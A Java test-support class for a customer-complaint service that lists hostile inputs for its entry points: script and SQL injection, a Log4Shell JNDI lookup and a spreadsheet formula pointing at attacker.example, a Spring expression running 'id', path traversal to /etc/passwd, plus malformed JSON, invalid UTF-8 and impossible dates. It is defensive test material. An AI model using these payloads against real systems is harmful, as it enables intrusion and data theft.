package com.complaintdesk.support;

import java.util.List;

/** The hostile strings and bodies every entry point is tried with (README "Reliability and security proof"). */
public final class BadInput {

    private BadInput() {}

    /** Script and SQL injection, as customers (or attackers posing as them) type them: plain data to us. */
    public static final List<String> INJECTIONS = List.of(
            "<script>alert(document.cookie)</script>",
            "\"><img src=x onerror=alert(1)>",
            "'; DROP TABLE cd_complaint; --",
            "' OR '1'='1",
            "1; UPDATE cd_complaint SET text='owned' WHERE 1=1; --",
            "${jndi:ldap://attacker.example/a}",
            "#{T(java.lang.Runtime).getRuntime().exec('id')}",
            "=HYPERLINK(\"http://attacker.example\",\"click\")",
            "{{7*7}} <%= 7*7 %>",
            "../../../../etc/passwd",
            "\u202Egnp.exe",
            "😡💔 收到的杯子碎了 \uD83D\uDE21");

    /** Bodies that are not JSON at all, or not the JSON asked for. */
    public static final List<String> MALFORMED_JSON = List.of(
            "{",
            "}",
            "{\"channel\":}",
            "{\"channel\":\"instagram\",}",
            "{}}",
            "[",
            "nul",
            "{'channel':'instagram'}",
            "{\"text\":\"unterminated}",
            "\u0000",
            "<?xml version=\"1.0\"?><complaint/>");

    /** JSON nested {@code depth} arrays deep inside an object. */
    public static String deeplyNested(int depth) {
        return "{\"text\":" + "[".repeat(depth) + "]".repeat(depth) + "}";
    }

    /** UTF-8 that is not: a lone continuation byte, an overlong encoding, a truncated sequence, a surrogate. */
    public static final List<byte[]> INVALID_UTF8 = List.of(
            new byte[] {(byte) 0x80},
            new byte[] {(byte) 0xC0, (byte) 0xAF},
            new byte[] {(byte) 0xE6, (byte) 0x9D},
            new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80},
            new byte[] {(byte) 0xFF});

    /**
     * Text that is well-formed JSON once escaped ({@link #escaped}) but is no text a customer typed: a NUL and other
     * control characters (PostgreSQL cannot store a NUL), and unpaired UTF-16 surrogates (no UTF-8 can carry them).
     */
    public static final List<String> UNSTORABLE_TEXT = List.of(
            "broken\u0000mug",
            "\u0000",
            "bell\u0007\u001b[2J",
            "half \uD83D emoji",
            "\uDE21 low first",
            "\uDFFF\uD800");

    /** JSON string content with every character outside printable ASCII as a backslash-u escape, as Meta sends it. */
    public static String escaped(String text) {
        StringBuilder out = new StringBuilder();
        for (char c : text.toCharArray()) {
            if (c == '"' || c == '\\') {
                out.append('\\').append(c);
            } else if (c < 0x20 || c > 0x7e) {
                out.append(String.format("\\u%04x", (int) c));
            } else {
                out.append(c);
            }
        }
        return out.toString();
    }

    /** {@code body} as UTF-8 with its first {@code marker} replaced by the raw {@code bytes} (which need not be UTF-8). */
    public static byte[] spliced(String body, String marker, byte[] bytes) {
        int at = body.indexOf(marker);
        if (at < 0) {
            throw new IllegalArgumentException(marker + " is not in the body");
        }
        byte[] before = body.substring(0, at).getBytes(java.nio.charset.StandardCharsets.UTF_8);
        byte[] after = body.substring(at + marker.length()).getBytes(java.nio.charset.StandardCharsets.UTF_8);
        byte[] out = new byte[before.length + bytes.length + after.length];
        System.arraycopy(before, 0, out, 0, before.length);
        System.arraycopy(bytes, 0, out, before.length, bytes.length);
        System.arraycopy(after, 0, out, before.length + bytes.length, after.length);
        return out;
    }

    /** Dates no complaint has: far past, far future, and not dates at all. */
    public static final List<String> BAD_DATE_TIMES = List.of(
            "0001-01-01T00:00:00Z",
            "-999999999-01-01T00:00:00Z",
            "1899-12-31T23:59:59Z",
            "+999999999-12-31T23:59:59Z",
            "9999-12-31T23:59:59Z",
            "2026-13-45T25:61:00Z",
            "yesterday");

    public static final List<String> BAD_DATES =
            List.of("0001-01-01", "-999999999-01-01", "+999999999-12-31", "9999-12-31", "2026-02-30", "soon");
}
